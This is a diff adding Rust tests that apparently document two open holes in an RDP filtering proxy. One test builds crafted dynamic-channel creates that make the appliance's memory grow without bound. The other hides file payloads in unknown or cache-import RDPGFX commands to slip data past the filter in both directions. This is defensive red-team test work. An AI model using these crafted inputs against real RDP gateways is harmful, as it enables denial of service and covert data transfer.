+/// Hole 9 (open): the filter keeps every dynamic channel the grant opens until it closes, with
+/// its name, and a target may open as many as it likes: ids are 32 bits and only one read
+/// channel per name is bounded. A camera grant opens any `RDCamera_Device_*` name, so each
+/// Create Request (one static chunk, up to a TPKT's ~64 KiB) leaves its whole name in the box's
+/// memory; on a USB grant every `URBDRC` Create Request (~30 bytes on the wire) leaves a
+/// channel entry of a few hundred bytes. Nothing is answered or closed; the target (or, on xrdp,
+/// a program opening channels through xrdpapi, if chansrv lets it) just goes on: the box's
+/// memory grows with what the target sends, for as long as the session lasts, and every session
+/// on the appliance shares that memory.
+#[test]
+fn red17m_a_target_opening_channels_without_end_makes_the_box_hold_them_all() {
+    let mut f = grant(Redirection::NONE.with(Class::Camera));
+    let suffix = "X".repeat(16 * 1024);
+    let mut sent = 0usize;
+    for id in 0..256u32 {
+        let mut create = vec![0x12];
+        create.extend(id.to_le_bytes());
+        create.extend(format!("RDCamera_Device_{id}{suffix}").as_bytes());
+        create.push(0);
+        sent += create.len();
+        assert_eq!(f.from_target(&target_dvc(&create)).unwrap(), Verdict::Forward, "channel {id}");
+    }
+    let held: usize = f.dynamic.open.values().map(|c| c.name.len()).sum();
+    assert_eq!(f.dynamic.open.len(), 256);
+    assert!(held * 100 >= sent * 99, "the box holds {held} bytes of names for {sent} sent");
+
+    let mut f = grant(Redirection::NONE.with(Class::Usb));
+    let n = 100_000u32;
+    for id in 0..n {
+        let mut create = vec![0x12];
+        create.extend(id.to_le_bytes());
+        create.extend(b"URBDRC\0");
+        assert_eq!(f.from_target(&target_dvc(&create)).unwrap(), Verdict::Forward);
+    }
+    assert_eq!(f.dynamic.open.len(), n as usize, "every channel kept");
+    let entry = std::mem::size_of::<DynamicChannel>() + std::mem::size_of::<u32>();
+    assert!(entry >= 200, "an entry is {entry} bytes against ~30 on the wire");
+}
+
+/// Hole 10 (open; beside red team `h-red17k`'s hole 4, which is the channel a program opens when
+/// the session has none): on the session's own graphics pipeline the client's RDPGFX PDUs are
+/// walked only to find a Caps Advertise, and the target's pass unread. An RDPGFX PDU of a
+/// command no peer knows, or a Cache Import Offer (5462 entries of a free 8-byte cache key and
+/// a length: ~65 KB) carries a file from the client to the target's RDP server, and the same
+/// unknown command one from the target's graphics server to the client (the recorder skips what
+/// it does not know). Refusing a second graphics channel does not close this one.
+#[test]
+fn red17m_the_sessions_own_graphics_pipeline_carries_unknown_commands_both_ways() {
+    let mut f = grant(Redirection::NONE);
+    assert_eq!(f.from_target(&target_dvc(&create(3, "Microsoft::Windows::RDS::Graphics"))).unwrap(), Verdict::Forward);
+    assert_eq!(f.from_client(&client_dvc(&[0x10, 3, 0, 0, 0, 0])).unwrap(), Verdict::Forward);
+    let payload = file(1500);
+    let gfx = |cmd: u16, body: &[u8]| {
+        let mut pdu = vec![0x30, 3];
+        pdu.extend(cmd.to_le_bytes());
+        pdu.extend(0u16.to_le_bytes());
+        pdu.extend(u32::try_from(8 + body.len()).unwrap().to_le_bytes());
+        pdu.extend(body);
+        pdu
+    };
+    let frame = client_dvc(&gfx(0x7777, &payload));
+    assert!(carries(&f.from_client(&frame).unwrap(), &frame, &payload), "client to target, unknown command");
+    // RDPGFX_CMDID_CACHEIMPORTOFFER (0x10): cacheEntriesCount, then cacheKey (8) and bitmapLength (4).
+    let mut offer = u16::try_from(payload.len() / 12).unwrap().to_le_bytes().to_vec();
+    offer.extend(&payload[..payload.len() / 12 * 12]);
+    let frame = client_dvc(&gfx(0x10, &offer));
+    assert!(carries(&f.from_client(&frame).unwrap(), &frame, &payload[..1200]), "a cache import offer");
+    let frame = target_dvc(&gfx(0x7777, &payload));
+    assert!(carries(&f.from_target(&frame).unwrap(), &frame, &payload), "target to client, unknown command");
+}
